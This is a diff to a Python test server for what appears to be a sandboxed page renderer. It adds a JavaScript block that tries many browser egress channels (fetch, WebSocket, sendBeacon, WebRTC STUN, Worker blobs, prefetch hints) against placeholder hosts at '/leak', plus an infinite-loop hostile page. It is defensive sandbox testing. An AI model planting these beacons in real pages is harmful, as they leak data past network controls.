@@ -26,6 +26,26 @@ fetch("/data?" + about).then(answer => answer.json()).then(data => {
     "<img src='http://THIRD/picture.png'><img src='http://THIRD/forbidden/picture.png'>" +
     "<img src='/private/picture.png'>";
 });"""
+# What a page does besides, for those who watch where it arrives: TARGETS are addresses, NAMES are host names.
+LEAKS = """
+const tried = work => { try { const done = work(); if (done && done.catch) done.catch(() => {}) } catch {} };
+const put = (tag, values) => document.head.append(Object.assign(document.createElement(tag), values));
+for (const to of TARGETS) {
+  tried(() => fetch("http://" + to + "/leak", {mode: "no-cors"}));
+  tried(() => new EventSource("http://" + to + "/leak"));
+  tried(() => new WebSocket("ws://" + to + "/leak"));
+  tried(() => navigator.sendBeacon("http://" + to + "/leak"));
+  tried(() => window.open("http://" + to + "/leak"));
+  tried(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + to + "/leak')"]))));
+  tried(() => new RTCPeerConnection({iceServers: [{urls: "stun:" + to}]}).createDataChannel("x"));
+  put("script", {src: "https://" + to + "/leak"}); put("link", {rel: "preconnect", href: "http://" + to});
+}
+for (const name of NAMES) {
+  for (const rel of ["dns-prefetch", "preconnect", "prefetch"]) put("link", {rel, href: "https://" + name});
+  tried(() => navigator.sendBeacon("https://" + name + "/leak")); put("video", {src: "https://" + name + "/leak"});
+}
+fetch("/data?tried");
+"""
 _END = "<p id=end>the end</p>"
 HOSTILE = {
     "/loop": "<script>while (true) {}</script>",
@@ -72,6 +92,7 @@ class DrawnSite:
         self.canary_port = canary
         self.arrived: list[Arrived] = []
         self.canary_calls = 0
+        self.leaks = ""  # what drawn pages do besides
         self.url = f"http://{SITE}:{port}"
 
     def paths(self, host: str = SITE) -> list[str]:
@@ -84,7 +105,11 @@ class DrawnSite:
         text = HOSTILE.get(path)
         if text is None:
             text = (
-                APP if path == "/app.js" else SHELL if path.startswith("/drawn") and not path.endswith("/next") else ""
+                APP + self.leaks
+                if path == "/app.js"
+                else SHELL
+                if path.startswith("/drawn") and not path.endswith("/next")
+                else ""
             )
         for name, value in names.items():
             text = text.replace(name, value)
